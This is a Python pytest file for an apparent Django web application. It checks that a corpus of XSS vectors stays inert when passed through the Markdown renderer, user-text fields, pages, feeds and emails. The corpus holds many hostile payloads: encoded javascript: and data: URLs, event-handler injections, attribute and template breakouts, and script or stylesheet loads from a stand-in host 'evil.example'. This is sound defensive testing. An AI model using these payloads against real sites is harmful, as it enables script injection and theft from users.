"""XSS: a corpus of vectors through the Markdown pipeline and through every user-text field, checked on every
page and email that shows them; plus a property (hypothesis): any text through the Markdown renderer comes out
without script, event handlers or unsafe URLs.

The corpus grows the one in tests/core/test_text.py, whose field-by-field walk (practices, events, tips, tools,
adoptions, flags, moderation comments, help requests, join requests and their emails) every new vector also
takes; the walk here adds the event report and agreements, registration remarks, profile and organisation
names, visit profiles, my portal, the cockpit, the search box, the feeds and the digest preview.
"""

import xml.etree.ElementTree as ET

import pytest
from django.core import mail
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from coalitions.models import HelpRequest, Organisation, VisitProfile
from core.text import render_markdown
from events.models import Registration
from notifications.models import OutboundEmail
from tests.attacks.checks import script_problems, unsafe_url
from tests.core.test_text import CORPUS as CORE_CORPUS
from tests.core.test_text import test_payload_in_every_text_field_is_inert as walk_core_fields
from tests.helpers import parse_html_text

MORE = [
    # Markdown links and images with unsafe schemes, encoded, mixed case, with whitespace.
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#0000106;avascript:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](jav&#x0A;ascript:alert(1))",
    "[x](jav&#x0D;ascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](\\javascript:alert(1))",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](vbscript:alert(1))",
    '![x](https://example.org/a.png "onerror=alert(1)")',
    '[x](https://example.org/ "title\\" onmouseover=\\"alert(1)")',
    # Reference-style links and autolinks.
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: <javascript:alert(1)>",
    "[x][1]\n\n[1]: data:text/html,<script>alert(1)</script> \"t\"",
    "![x][img]\n\n[img]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<mailto:a@b.nl?body=<script>alert(1)</script>>",
    # Raw HTML of many kinds.
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)\">x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # Breaking out of attributes and templates.
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{ request.user.password }}{% debug %}",
    "{% load static %}{% csrf_token %}{{ 7|add:7 }}",
    "${alert(1)}#{alert(1)}",
    # Code spans and blocks keep text inert.
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "    <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "* [x](javascript:alert(1))\n* <svg onload=alert(1)>",
]
CORPUS = CORE_CORPUS + MORE
IDS = [f"{n:02d}" for n in range(len(CORPUS))]


def assert_inert(html: str, where: str):
    problems = script_problems(html)
    assert problems == [], f"{where}: {problems}"


@pytest.mark.parametrize("vector", CORPUS, ids=IDS)
def test_markdown_renders_every_vector_inert(vector):
    html = str(render_markdown(vector))
    assert_inert(html, "markdown")
    for node in parse_html_text(html).descendants():
        assert node.tag in {"p", "br", "strong", "em", "ul", "ol", "li", "a", "blockquote", "code", "pre", "h3",
                            "h4", "hr"}, node.tag
        assert set(node.attrs) <= ({"href", "title", "rel"} if node.tag == "a" else set()), node.attrs


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(
    st.text(max_size=40),
    st.sampled_from(["<", ">", "[", "]", "(", ")", "!", ":", "&#", ";", "\"", "'", "`", "\n", "\t", " ", "*",
                     "javascript", "JaVaScRiPt", "vbscript", "data", "script", "onerror=", "onload=", "<svg",
                     "<img", "<a href=", "<iframe", "<math", "<style", "&#x09;", "&#106;", "&colon;", "%3A",
                     "](", "]: ", "<javascript:", "http://", "mailto:"]),
), max_size=30).map("".join))
def test_any_text_through_markdown_renders_without_script(text):
    html = str(render_markdown(text))
    assert script_problems(html) == []
    for node in parse_html_text(html).descendants():
        assert not any(name.startswith("on") for name in node.attrs)
        for name in ("href", "src"):
            assert not (node.get(name) and unsafe_url(node.get(name)))


@pytest.mark.parametrize("vector", MORE, ids=IDS[len(CORE_CORPUS):])
def test_new_vector_through_the_core_walk(client, db, vector, django_capture_on_commit_callbacks):
    """The field-by-field walk of tests/core/test_text.py, with each of the vectors added here."""
    walk_core_fields(client, vector, django_capture_on_commit_callbacks)


@pytest.mark.parametrize("vector", CORPUS, ids=IDS)
def test_vector_through_the_remaining_fields_pages_feeds_and_emails(client, world, vector,
                                                                   django_capture_on_commit_callbacks):
    users, o = world
    for user in users.values():
        user.full_name, user.organisation_name = vector[:150], vector[:200]
        user.save()
    o["a"].description = vector
    o["a"].save()
    o["north"].description = vector
    o["north"].save()
    o["network"].description = vector
    o["network"].save()
    o["a"].partners.add(Organisation.objects.create(name=vector[:200], slug="partner", kind=Organisation.Kind.PROVIDER))
    VisitProfile.objects.create(coalition=o["a"], offer=vector, wish=vector)
    VisitProfile.objects.create(coalition=o["b"], offer=vector, wish=vector)
    report = o["reported_event"].report
    report.summary, report.insights = vector, vector
    report.save()
    o["agreement"].description, o["agreement"].done_note = vector[:1000], vector[:1000]
    o["agreement"].save()
    Registration.objects.filter(event=o["event"]).update(remark=vector, organisation_name=vector[:200])
    HelpRequest.objects.filter(pk=o["help"].pk).update(question=vector, name=vector[:150], organisation=vector[:200])
    o["published"].title, o["published"].summary = vector[:200], vector
    o["published"].save()
    o["event"].title, o["event"].summary = vector[:200], vector[:300]
    o["event"].save()
    with django_capture_on_commit_callbacks(execute=True):
        client.force_login(users["pl_own"])
        client.post(reverse("events:register", args=[o["event"].slug]), {"remark": vector[:1000]})
        client.post(reverse("tools:join", args=[o["tool"].slug]), {"message": vector[:1000]})
        client.force_login(users["coord_own"])
        client.post(reverse("flag_dismiss", args=[o["flag"].pk]), {"note": vector[:2000]})
        client.post(reverse("practices:moderate", args=[o["submitted"].slug]),
                    {"action": "request_changes", "comment": vector[:2000]})

    pages = {
        "coord_own": {
            "cockpit": reverse("region_overview", args=["noord"]),
            "help request": reverse("help_request_answer", args=["noord", o["help"].pk]),
            "moderation queue": reverse("moderation_queue"),
        },
        "pl_own": {
            "registrations": reverse("events:registrations", args=[o["event"].slug]),
            "report form": reverse("events:report", args=[o["reported_event"].slug]),
            "coalition manage": reverse("coalitions:manage", args=["oost-groningen"]),
            "profile": reverse("profile"),
            "matches": reverse("coalition_matches", args=["oost-groningen"]),
        },
        "member": {
            "my portal": reverse("my_portal"),
            "agreement": reverse("events:agreement_close", args=[o["agreement"].pk]),
            "event with report": o["reported_event"].get_absolute_url(),
            "event": o["event"].get_absolute_url(),
            "region": o["north"].get_absolute_url(),
            "network": o["network"].get_absolute_url(),
            "coalition": o["a"].get_absolute_url(),
            "visit chains": reverse("visit_chains"),
            "practice search": reverse("practices:list") + "?q=" + vector[:200],
            "tips by theme": reverse("practices:tips") + "?thema=" + o["theme"].slug,
            "tool search": reverse("tools:list") + "?q=" + vector[:200],
            "coalition search": reverse("coalitions:list") + "?q=" + vector[:200],
            "about": reverse("about") + "?regio=" + vector[:50],
        },
    }
    for role, urls in pages.items():
        client.force_login(users[role])
        for where, url in urls.items():
            response = client.get(url)
            assert response.status_code == 200, where
            assert_inert(response.content.decode(), where)
    # The feeds' links; whether their summaries are HTML or text (type="html") is another change of issue 12.
    for feed in ("feed_events", "feed_practices"):
        response = client.get(reverse(feed))
        assert response.status_code == 200, feed
        for element in ET.fromstring(response.content).iter():  # noqa: S314 - our own response
            assert not unsafe_url(element.get("href") or ""), feed
    assert OutboundEmail.objects.filter(kind="flag-dismissed").count() == 1
    emails = list(OutboundEmail.objects.values_list("kind", "body_html")) + [
        (m.subject, html) for m in mail.outbox for html, _type in m.alternatives]
    for kind, html in emails:
        assert_inert(html, f"email {kind}")
